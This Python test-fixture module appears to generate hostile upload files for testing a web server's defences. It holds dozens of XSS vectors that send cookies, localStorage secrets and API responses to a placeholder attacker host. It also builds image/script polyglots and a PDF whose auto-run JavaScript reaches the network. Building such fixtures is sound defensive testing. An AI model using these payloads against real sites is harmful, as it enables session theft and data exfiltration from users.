"""Files that an attacker would upload to harm the people who open them.

A vector that works requests NAME (its own name) from the attacker's server, with what it could read as `?report=`.
`{hit}` stands for the address of that server, up to the name.
"""

from collections.abc import Mapping
from dataclasses import dataclass

from tests.makers import gif, jpeg, png

_HIT = "new Image().src='{hit}NAME'"
_REPORT = "(what => new Image().src = '{hit}NAME?report=' + encodeURIComponent(what))"

# Vectors that need no click. These are templates for str.format: {{ is one brace.
AUTOMATIC = {
    "script": f"<script>{_HIT}</script>",
    "script in an svg": f"<svg><script>{_HIT}</script></svg>",
    "script elsewhere": "<script src='{hit}NAME'></script>",
    "module": "<script type=module>import '{hit}NAME'</script>",
    "module elsewhere": "<script type=module src='{hit}NAME'></script>",
    "onerror": f'<img src=x: onerror="{_HIT}">',
    "onload": f'<svg onload="{_HIT}"></svg>',
    "onfocus": f'<input autofocus onfocus="{_HIT}">',
    "ontoggle": f'<details open ontoggle="{_HIT}">x</details>',
    "onbegin": f'<svg><animate attributeName=x dur=1s onbegin="{_HIT}"></animate></svg>',
    "onanimationstart": f"<style>@keyframes k{{{{}}}}</style><p style='animation: k 1s' onanimationstart=\"{_HIT}\">",
    "javascript frame": "<iframe src=\"javascript:void(fetch('{hit}NAME'))\"></iframe>",
    "srcdoc": f'<iframe srcdoc="<script>{_HIT}</script>"></iframe>',
    "srcdoc allowed": f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{_HIT}</script>"></iframe>',
    "srcdoc picture": "<iframe srcdoc=\"<img src='{hit}NAME'>\"></iframe>",
    "data frame": f'<iframe src="data:text/html,<script>{_HIT}</script>"></iframe>',
    "frame": "<iframe src='{hit}NAME'></iframe>",
    "object": "<object data='{hit}NAME'></object>",
    "embed": "<embed src='{hit}NAME'>",
    "picture": "<img src='{hit}NAME'>",
    "srcset": "<img srcset='{hit}NAME 1x'>",
    "input": "<input type=image src='{hit}NAME'>",
    "svg picture": "<svg><image href='{hit}NAME' /></svg>",
    "svg filter": "<svg><filter id=f><feImage href='{hit}NAME' /></filter><rect width=9 height=9 filter='url(#f)' />",
    "background": "<table background='{hit}NAME'><tr><td>x</table>",
    "poster": "<video poster='{hit}NAME'></video>",
    "video": "<video src='{hit}NAME' autoplay muted></video>",
    "audio": "<audio src='{hit}NAME' preload=auto></audio>",
    "track": "<video src='data:video/mp4,' crossorigin><track default src='{hit}NAME'></video>",
    "css import": "<style>@import '{hit}NAME';</style>",
    "css url": "<p style=\"background: url('{hit}NAME')\">x</p>",
    "css list": "<ul style=\"list-style: url('{hit}NAME')\"><li>x</ul>",
    "css font": "<style>@font-face {{ font-family: f; src: url('{hit}NAME') }}</style><p style='font-family: f'>x</p>",
    "style sheet": "<link rel=stylesheet href='{hit}NAME'>",
    "preload": "<link rel=preload as=image href='{hit}NAME'>",
    "modulepreload": "<link rel=modulepreload href='{hit}NAME'>",
    "prefetch": "<link rel=prefetch href='{hit}NAME'>",
    "speculation": '<script type=speculationrules>{{"prefetch": [{{"urls": ["{hit}NAME"]}}]}}</script>',
    "fetch": "<script>fetch('{hit}NAME')</script>",
    "xhr": "<script>x = new XMLHttpRequest(); x.open('GET', '{hit}NAME'); x.send()</script>",
    "sendBeacon": "<script>navigator.sendBeacon('{hit}NAME')</script>",
    "websocket": "<script>new WebSocket('{hit}NAME'.replace('http', 'ws'))</script>",
    "event source": "<script>new EventSource('{hit}NAME')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{hit}NAME')\"])))</script>",
    "cookie": f"<script>{_REPORT}(document.cookie)</script>",
    "storage": f"<script>{_REPORT}(localStorage.secret)</script>",
    "the API": f"<script>fetch('/api/v1/reports/suite-runs').then(r => r.text()).then({_REPORT})</script>",
    "parent": f"<script>parent.document.title = 'owned'; {_REPORT}(parent.document.URL)</script>",
    "itself": f"<script>document.title = 'owned'; {_HIT}</script>",
    "service worker": f"<script>navigator.serviceWorker.register('/test/worker.js').then({_REPORT})</script>",
}
# Vectors that navigate away from the page: each needs its own page.
NAVIGATING = {
    "refresh": "<meta http-equiv=refresh content='0; url={hit}NAME'>",
    "form": "<form action='{hit}NAME'><input name=report value=x></form><script>document.forms[0].submit()</script>",
    "location": "<script>location = '{hit}NAME'</script>",
    "top": "<script>top.location = '{hit}NAME'</script>",
    "link to the top": "<a id=a target=_top href='{hit}NAME'>x</a><script>a.click()</script>",
    "saved": "<a id=a download href='{hit}NAME'>x</a><script>a.click()</script>",
}
# Vectors that need a click.
CLICKED = {
    "javascript link": "<a href=\"javascript:void(fetch('{hit}NAME'))\">x</a>",
    "onclick": f'<a tabindex=0 onclick="{_HIT}">x</a>',
    "new window": "<a target=_blank href='{hit}NAME'>x</a>",
    "ping": "<a href='#x' ping='{hit}NAME'>x</a>",
    "button": "<form action='{hit}NAME' method=post><button>x</button></form>",
    "button of its own": "<form><button formmethod=post formaction='{hit}NAME'>x</button></form>",
}
FRAMED_CLICKED = CLICKED | {"link to the parent": "<a target=_top href='{hit}NAME'>x</a>"}
# Plain links, which must keep working.
LINKS = {"link": "<a href='{hit}NAME'>x</a>", "saved link": "<a download=x.exe href='{hit}NAME'>x</a>"}

TEXT = "What the page has to say"
_SCRIPT = f"<script>{_HIT}</script>"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_HIT}\"><text y='20'>{TEXT}</text>{_SCRIPT}</svg>"


@dataclass(frozen=True)
class Kind:
    """A hostile file: its bytes, its declared name and content type, and the type that the server must detect."""

    content: bytes
    file_name: str
    declared: str
    mime_type: str


def page(vectors: Mapping[str, str], hit: str) -> bytes:
    """An HTML page that holds TEXT and these vectors."""
    lines = "\n".join(filled(text, hit, name) for name, text in vectors.items())
    return f"<!DOCTYPE html><title>harmless</title><p>{TEXT}</p>\n{lines}\n".encode()


def pages(hit: str) -> dict[str, Kind]:
    """Web pages: one with all AUTOMATIC vectors, and one for each of the NAVIGATING vectors."""
    found = {"automatic": AUTOMATIC, **{name: {name: text} for name, text in NAVIGATING.items()}}
    return {name: Kind(page(vectors, hit), "a.html", "text/html", "text/html") for name, vectors in found.items()}


def clickable(vectors: Mapping[str, str], hit: str) -> bytes:
    """An HTML page with one vector per row, each row 40 pixels high, from the top."""
    rows = "".join(f"<div>{filled(text, hit, name)}</div>" for name, text in vectors.items())
    style = "body, form { margin: 0 } div, a, button { display: block; height: 40px; width: 200px; overflow: hidden }"
    return f"<!DOCTYPE html><title>harmless</title><style>{style}</style>{rows}".encode()


def filled(text: str, hit: str, name: str) -> str:
    return text.replace("NAME", name.replace(" ", "-")).format(hit=hit)


def kinds(hit: str) -> dict[str, Kind]:
    """Files of other types that hold HTML with a script: they must not be rendered as web pages."""

    def of(name: str, text: str) -> bytes:
        return filled(text, hit, name).encode()

    web_page = f"<!DOCTYPE html><title>harmless</title><p>{TEXT}</p>{_SCRIPT}"
    xml = "<?xml version='1.0'?>\n<?xml-stylesheet href='{hit}NAME'?>\n"
    xhtml = f"<html xmlns='http://www.w3.org/1999/xhtml'><p>{TEXT}</p>{_SCRIPT}</html>"
    bmp = b"BM" + of("BMP", web_page)
    return {
        "SVG": Kind(of("SVG", _SVG), "a.svg", "image/svg+xml", "text/plain"),
        "SVG in XML": Kind(of("SVG in XML", xml + _SVG), "a.svg", "image/svg+xml", "text/plain"),
        "XHTML": Kind(of("XHTML", xml + xhtml), "a.xhtml", "application/xhtml+xml", "text/plain"),
        "text": Kind(of("text", f"{TEXT}\n{web_page}"), "a.txt", "text/html", "text/plain"),
        "JSON": Kind(of("JSON", f'["{TEXT}", "{_SCRIPT}"]'), "a.json", "text/html", "application/json"),
        "called PNG": Kind(of("called PNG", web_page), "a.png", "text/html", "text/html"),
        "called nothing": Kind(of("called nothing", web_page), "", "text/html", "text/html"),
        "behind a PNG": Kind(png() + of("behind a PNG", web_page), "a.png", "text/html", "image/png"),
        "behind a JPEG": Kind(jpeg() + of("behind a JPEG", web_page), "a.html", "text/html", "image/jpeg"),
        "BMP": Kind(bmp, "a.html", "text/html", "text/plain"),
        "UTF-16": Kind(of("UTF-16", web_page).decode().encode("utf-16"), "a.log", "text/html", "text/html"),
        "a NUL": Kind(of("a NUL", web_page) + b"\0", "a.log", "text/html", "text/html"),
        "a NUL first": Kind(b"\0" + of("a NUL first", web_page), "a.log", "text/html", "text/plain"),
        "no encoding": Kind(of("no encoding", web_page) + b"\xff", "a.log", "text/html", "text/html"),
    }


def scripts(hit: str) -> dict[str, Kind]:
    """Files of other types that are also valid scripts or style sheets: they must not be run as such."""
    work = "fetch('{hit}NAME-in-' + self.constructor.name)"

    def of(name: str) -> bytes:
        return filled(work, hit, name).encode()

    # The width of a GIF whose two bytes are /* starts a JavaScript comment, which hides the rest of the picture.
    picture = bytearray(gif(frames=1))
    picture[6:8] = b"/*"
    css = f"@import '{hit}style'; p {{ color: red }}".encode()
    return {
        "script": Kind(of("script"), "a.js", "text/javascript", "text/plain"),
        "picture": Kind(bytes(picture) + b"*/=1;" + of("picture"), "a.gif", "text/javascript", "image/gif"),
        "number": Kind(b"1;" + of("number"), "a.json", "text/javascript", "application/json"),
        "style": Kind(css, "a.css", "text/css", "text/plain"),
    }


def pdf(hit: str) -> bytes:
    """A page with a script that tries to reach the network when opened, then shows in a dialog which globals it has."""
    tries = [f"this.submitForm('{hit}submit')", f"app.launchURL('{hit}launch')", f"this.getURL('{hit}get')"]
    seen = "[typeof window, typeof document, typeof fetch, typeof XMLHttpRequest, typeof navigator].join()"
    script = "".join(f"try {{{each}}} catch (error) {{}}" for each in tries) + f"app.alert({seen})"
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        f"<</S/JavaScript/JS<{script.encode().hex()}>>>",
    ]
    text, offsets = "%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(text))
        text += f"{number} 0 obj\n{content}\nendobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\n"
    return f"{text}{end}startxref\n{len(text)}\n%%EOF\n".encode()
